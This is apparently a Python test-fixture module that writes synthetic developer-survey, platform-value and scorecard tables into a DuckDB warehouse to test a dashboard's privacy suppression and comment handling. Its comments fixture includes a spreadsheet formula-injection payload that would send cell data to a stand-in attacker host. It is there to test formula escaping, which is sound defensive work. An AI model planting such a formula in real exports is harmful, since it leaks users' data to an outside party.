"""Small hand-made DevEx, platform-value and scorecard marts (no dbt), added to a mart_fixtures
warehouse. Shapes follow the issue-6 mart contracts; the numbers are chosen to be recognisable."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path

import duckdb
import pandas as pd

CONSTRUCT_COLUMNS = [
    "feedback_loops_favourable_pct",
    "intrinsic_load_favourable_pct",
    "extraneous_load_favourable_pct",
    "team_scope_favourable_pct",
    "germane_load_favourable_pct",
    "flow_favourable_pct",
    "platform_experience_favourable_pct",
    "satisfaction_favourable_pct",
]
SCORES = [
    *CONSTRUCT_COLUMNS,
    "devex_index",
    "cognitive_load_intrinsic",
    "cognitive_load_extraneous",
    "cognitive_load_germane",
    "cognitive_load_team_scope",
    "cognitive_load_index",
    "satisfaction_mean",
    "platform_nps",
    "hours_lost_per_week",
]
CHANGES = [
    "devex_index_change",
    "cognitive_load_index_change",
    "satisfaction_mean_change",
    "platform_nps_change",
    "hours_lost_per_week_change",
]
WAVES = {
    "2024-Q4": (1, dt.datetime(2024, 12, 10, 15, tzinfo=dt.UTC)),
    "2025-Q1": (2, dt.datetime(2025, 3, 5, 12, tzinfo=dt.UTC)),
}
LATEST_WAVE = "2025-Q1"
THRESHOLD_REASON = "fewer than 5 responses"
COMPLEMENTARY_REASON = (
    "hidden so that the organisation minus the other team groups does not reveal a group under 5"
)
# Comments the page must never show: from the raw and staging survey tables.
RAW_ONLY_COMMENT = "RAW-ONLY comment that must stay in the warehouse"
STAGING_ONLY_COMMENT = "STAGING-ONLY comment that must stay in the warehouse"
OLD_WAVE_COMMENT = "A comment from the previous wave"


def _scores(base: float, satisfaction: float, nps: float, hours: float) -> dict:
    row = {c: base + i for i, c in enumerate(CONSTRUCT_COLUMNS)}
    load = [100 - row[c] for c in CONSTRUCT_COLUMNS[1:5]]
    row |= {
        "devex_index": base + 2.5,
        "cognitive_load_intrinsic": load[0],
        "cognitive_load_extraneous": load[1],
        "cognitive_load_team_scope": load[2],
        "cognitive_load_germane": load[3],
        "cognitive_load_index": sum(load) / 4,
        "satisfaction_mean": satisfaction,
        "platform_nps": nps,
        "hours_lost_per_week": hours,
    }
    return row


def _wave_row(wave: str, group_type: str, group_value: str, respondents: int, invited, **kw):
    number, closed = WAVES[wave]
    row = {
        "wave": wave,
        "wave_closed_at": closed,
        "wave_number": number,
        "group_type": group_type,
        "group_value": group_value,
        "respondents": respondents,
        "invited": invited,
        "response_rate": None if invited is None else respondents / invited,
        "suppressed": False,
        "suppression_reason": None,
        **dict.fromkeys(SCORES),
        "previous_wave": None,
        **dict.fromkeys(CHANGES),
    }
    row.update(kw)
    return row


def devex_wave_frame() -> pd.DataFrame:
    rows = [
        _wave_row("2024-Q4", "org", "all", 30, 40, **_scores(50.0, 3.70, -10.0, 4.0)),
        _wave_row("2024-Q4", "team", "payments", 14, 18, **_scores(55.0, 3.9, 0.0, 3.5)),
        _wave_row("2024-Q4", "team", "search", 16, 22, **_scores(45.0, 3.5, -20.0, 4.5)),
        _wave_row(
            "2025-Q1",
            "org",
            "all",
            32,
            40,
            **_scores(60.0, 3.92, 12.0, 3.25),
            previous_wave="2024-Q4",
            devex_index_change=10.0,
            cognitive_load_index_change=-4.0,
            satisfaction_mean_change=0.22,
            platform_nps_change=22.0,
            hours_lost_per_week_change=-0.75,
        ),
        _wave_row("2025-Q1", "team", "payments", 12, 14, **_scores(71.0, 4.2, 30.0, 2.0)),
        _wave_row("2025-Q1", "team", "search", 11, 13, **_scores(38.0, 3.1, -40.0, 5.0)),
        # Below the threshold: 3 respondents. Its scores are null by contract; the page must show
        # its reason and no number at all (not even the 3).
        _wave_row(
            "2025-Q1",
            "team",
            "infra",
            3,
            7,
            suppressed=True,
            suppression_reason=THRESHOLD_REASON,
        ),
        # Complementary suppression: enough respondents, hidden so that infra cannot be derived.
        # Scores are deliberately filled in (a broken mart): the page must still show none.
        _wave_row(
            "2025-Q1",
            "team",
            "data",
            6,
            6,
            suppressed=True,
            suppression_reason=COMPLEMENTARY_REASON,
            **_scores(93.7, 4.93, 93.0, 9.3),
        ),
        _wave_row("2025-Q1", "tenure", "<1 year", 4, None, suppressed=True,
                  suppression_reason=THRESHOLD_REASON),
        _wave_row("2025-Q1", "tenure", "2-5 years", 28, None, **_scores(62.0, 4.0, 15.0, 3.0)),
        _wave_row("2025-Q1", "role", "engineer", 32, None, **_scores(60.0, 3.92, 12.0, 3.25)),
    ]  # fmt: skip
    return pd.DataFrame(rows)


# A comment a spreadsheet would run as a formula, as a mart built before the prefix rule holds it.
FORMULA_COMMENT = '=HYPERLINK("http://attacker.test/?d="&A1,"details")'


def devex_comments_frame() -> pd.DataFrame:
    rows = [
        ("2024-Q4", "payments", "OT1", OLD_WAVE_COMMENT),
        (LATEST_WAVE, "payments", "OT1", "Provisioning a database needs a ticket"),
        (LATEST_WAVE, "payments", "OT2", "Flaky <integration> tests & slow CI"),
        (LATEST_WAVE, "search", "OT1", "Waiting for the release train"),
        (LATEST_WAVE, "search", "OT1", FORMULA_COMMENT),
        # Duplicates: the same comment (case, spacing, punctuation aside) twice more in search's
        # OT1; the same text under another question and in another team is not the same comment.
        (LATEST_WAVE, "search", "OT1", "waiting for the  release train!"),
        (LATEST_WAVE, "search", "OT1", "Waiting for the release train"),
        (LATEST_WAVE, "search", "OT2", "Waiting for the release train"),
        (LATEST_WAVE, "payments", "OT1", "Waiting for the release train"),
    ]
    return pd.DataFrame(
        [
            {"wave": w, "wave_closed_at": WAVES[w][1], "team": t, "item_id": i, "comment_text": c}
            for w, t, i, c in rows
        ]
    )


def signals_frame() -> pd.DataFrame:
    rows = []
    first = dt.date(2025, 1, 6)
    for i in range(10):  # the week of 2025-03-10 is still running at BUILD_TIME
        week = first + dt.timedelta(weeks=i)
        for team, engineers, on_call in (("payments", 8, 2), ("search", 5, 1)):
            incidents = 1 if i % 2 else 0
            open_prs = 10 + i
            rows.append(
                {
                    "team": team,
                    "week": week,
                    "engineers": engineers,
                    "on_call": on_call,
                    "services_owned": 2,
                    "repositories_owned": 4,
                    "services_per_engineer": 2 / engineers,
                    "repositories_per_engineer": 4 / engineers,
                    "incidents": incidents,
                    "incidents_per_on_call": incidents / on_call,
                    "open_prs": open_prs,
                    "active_developers": engineers,
                    "open_prs_per_developer": open_prs / engineers,
                    "repos_touched_per_developer": 1.5,
                    "ci_runs": 40 + i,
                    "ci_queue_p50_seconds": 30.0 + i,
                    "ci_run_p50_seconds": 300.0,
                }
            )
    return pd.DataFrame(rows)


ASSUMPTIONS = {
    "currency": "EUR",
    "loaded_hourly_rate": 100,
    "attribution_factor": 0.5,
    "working_weeks_per_year": 42,
    "monthly_cost": 8000,
    "investment": 300000,
    "tasks": ["ci_queue_time", "change_lead_time"],
    "capabilities": [
        {"name": "ci_templates", "workflow_regex": "ci-template", "golden_path": False},
        {"name": "golden_deploy", "workflow_regex": "deploy-golden", "golden_path": True},
    ],
    "self_service": {"workflow_regex": "", "request_label": ""},
    "baseline": "configured: platform.value.baseline",
}


def platform_value_frame() -> pd.DataFrame:
    rows = []
    for i, month in enumerate(
        (dt.date(2024, 12, 1), dt.date(2025, 1, 1), dt.date(2025, 2, 1), dt.date(2025, 3, 1))
    ):
        value = 6000.0 + 3000 * i
        rows.append(
            {
                "month": month,
                "eligible_services": 10,
                "adopting_services": 3 + i,
                "adoption_rate": (3 + i) / 10,
                "deployments": 100,
                "golden_path_deployments": 25 + 10 * i,
                "golden_path_share": (25 + 10 * i) / 100,
                "services_created": 2,
                "services_first_deployed": 1,
                "time_to_first_deployment_p50_minutes": 95.0,
                "self_service_requests": None,
                "self_service_automated": None,
                "self_service_ratio": None,
                "hours_saved": value / 50,
                "time_saved_value": value,
                "developers": 13,
                "survey_wave": "2024-Q4",
                "hours_lost_per_week": 4.0,
                "friction_hours": 4.0 * 13 * 3.5,
                "friction_cost": 4.0 * 13 * 3.5 * 100,
                "platform_cost": 8000.0,
                "value_to_cost_ratio": value / 8000,
                "roi": (value - 8000) / 8000,
                "payback_months": 300000 / value,
                "investment": 300000.0,
                "currency": "EUR",
                "hourly_rate": 100.0,
                "attribution_factor": 0.5,
                "working_weeks_per_month": 3.5,
                "baseline_start": dt.date(2024, 9, 1),
                "baseline_end": dt.date(2024, 11, 30),
                "assumptions": json.dumps(ASSUMPTIONS),
                "notes": "self-service: not configured (platform.self_service); time to first "
                "deployment: 1 of 2 new services not deployed yet (left out of the median)",
            }
        )
    return pd.DataFrame(rows)


def platform_adoption_frame() -> pd.DataFrame:
    rows = []
    for i, month in enumerate(
        (dt.date(2024, 12, 1), dt.date(2025, 1, 1), dt.date(2025, 2, 1), dt.date(2025, 3, 1))
    ):
        for capability, adopting in (("ci_templates", 3 + i), ("golden_deploy", 1 + i)):
            rows.append(
                {
                    "month": month,
                    "capability": capability,
                    "description": f"{capability} description",
                    "eligible_services": 10,
                    "adopting_services": adopting,
                    "adoption_rate": adopting / 10,
                }
            )
    return pd.DataFrame(rows)


def onboarding_frame() -> pd.DataFrame:
    created = dt.datetime(2025, 2, 3, 9, tzinfo=dt.UTC)
    return pd.DataFrame(
        [
            {
                "service": "ledger-api",
                "team": "payments",
                "repository": "acme/ledger-api",
                "created_at": created,
                "first_deployed_at": created + dt.timedelta(minutes=95),
                "time_to_first_deployment_minutes": 95.0,
                "created_month": dt.date(2025, 2, 1),
            },
            {
                "service": "ranker",
                "team": "search",
                "repository": "acme/ranker",
                "created_at": created + dt.timedelta(days=10),
                "first_deployed_at": None,
                "time_to_first_deployment_minutes": None,
                "created_month": dt.date(2025, 2, 1),
            },
        ]
    )


def time_saved_frame() -> pd.DataFrame:
    rows = []
    for month in (dt.date(2025, 1, 1), dt.date(2025, 2, 1)):
        rows += [
            {
                "month": month,
                "task": "ci_queue_time",
                "unit": "ci job",
                "baseline_hours": 0.01,
                "current_hours": 0.005,
                "volume": 4000,
                "hours_saved": 20.0,
                "value": 1000.0,
            },
            {
                "month": month,
                "task": "change_lead_time",
                "unit": "change",
                "baseline_hours": 30.0,
                "current_hours": 29.5,
                "volume": 440,
                "hours_saved": 220.0,
                "value": 11000.0,
            },
        ]
    return pd.DataFrame(rows)


SCORECARD_ROWS = [
    # metric, label, scope, unit, better, op, target, current, current_period, previous,
    # previous_period, status, status_reason, source_table
    ("developer_satisfaction", "Developer satisfaction", "org", "/5", "higher", ">", 4.0, 3.92,
     "2025-Q1", 3.7, "2024-Q4", "at risk", None, "metrics_devex_wave"),
    ("change_failure_rate", "Change failure rate", "org", "%", "lower", "<", 5.0, 4.2, "2025-02",
     6.0, "2025-01", "met", None, "metrics_dora_monthly"),
    ("deployment_frequency", "Deployment frequency", "org", "per week", "higher", ">", 20.0, 12.5,
     "2025-02", 11.0, "2025-01", "missed", None, "metrics_dora_monthly"),
    ("lead_time", "Lead time for changes (p50)", "org", "h", "lower", "<", 24.0, 21.0, "2025-02",
     22.0, "2025-01", "met", None, "metrics_dora_monthly"),
    ("self_service_ratio", "Self-service ratio", "org", "%", "higher", ">=", 50.0, None, None,
     None, None, "no data", "platform.self_service is not configured, or no requests",
     "metrics_platform_value"),
    ("change_failure_rate", "Change failure rate", "team:payments", "%", "lower", "<", 3.0, 9.0,
     "2025-02", 2.0, "2025-01", "missed", None, "metrics_dora_monthly"),
    ("platform_nps", "Platform NPS", "org", "NPS", "higher", ">", 0.0, 12.0, "2025-Q1", -10.0,
     "2024-Q4", "met", None, "metrics_devex_wave"),
]  # fmt: skip


def scorecard_frame() -> pd.DataFrame:
    columns = [
        "metric", "label", "scope", "unit", "better", "op", "target", "current_value",
        "current_period", "previous_value", "previous_period", "status", "status_reason",
        "source_table",
    ]  # fmt: skip
    df = pd.DataFrame(SCORECARD_ROWS, columns=columns)
    df.insert(0, "position", range(1, len(df) + 1))
    df["at_risk_within"] = (df["target"].abs() * 0.1).astype("float64")
    df["change"] = df["current_value"].astype("float64") - df["previous_value"].astype("float64")
    df["description"] = df["label"] + ": what it measures."
    return df


EXPERIENCE_MARTS = {
    "metrics_devex_wave": devex_wave_frame,
    "metrics_devex_comments": devex_comments_frame,
    "metrics_cognitive_load_signals": signals_frame,
}
VALUE_MARTS = {
    "metrics_platform_value": platform_value_frame,
    "metrics_platform_adoption": platform_adoption_frame,
    "fct_service_onboarding": onboarding_frame,
    "metrics_platform_time_saved": time_saved_frame,
}
SCORECARD_MARTS = {"metrics_success_scorecard": scorecard_frame}


def add_marts(path: Path, *groups: dict) -> Path:
    """Write the frames of ``groups`` (default: all) into ``marts`` of an existing warehouse."""
    groups = groups or (EXPERIENCE_MARTS, VALUE_MARTS, SCORECARD_MARTS)
    con = duckdb.connect(str(path))
    try:
        con.execute("SET TimeZone = 'UTC'")
        con.execute("CREATE SCHEMA IF NOT EXISTS marts")
        for group in groups:
            for name, build in group.items():
                con.register("_frame", build())
                con.execute(f"CREATE OR REPLACE TABLE marts.{name} AS SELECT * FROM _frame")
                con.unregister("_frame")
    finally:
        con.close()
    return path


def add_unpublishable_comments(path: Path) -> None:
    """Free text the site must never read: raw and staging survey comments of a hidden team."""
    con = duckdb.connect(str(path))
    try:
        con.execute("CREATE SCHEMA IF NOT EXISTS raw")
        con.execute("CREATE SCHEMA IF NOT EXISTS staging")
        con.execute(
            "CREATE TABLE IF NOT EXISTS raw.survey_comments (source VARCHAR, natural_key VARCHAR, "
            "scope VARCHAR, parent_key VARCHAR, payload JSON, updated_at TIMESTAMPTZ, "
            "fetched_at TIMESTAMPTZ)"
        )
        con.execute(
            "INSERT INTO raw.survey_comments VALUES ('surveys', 'c1', ?, NULL, ?, NULL, now())",
            [LATEST_WAVE, json.dumps({"team": "infra", "comment": RAW_ONLY_COMMENT})],
        )
        con.execute(
            "CREATE TABLE staging.stg_surveys__comments AS SELECT ? AS wave, 'infra' AS team, "
            "'OT1' AS item_id, ? AS comment_text",
            [LATEST_WAVE, STAGING_ONLY_COMMENT],
        )
    finally:
        con.close()
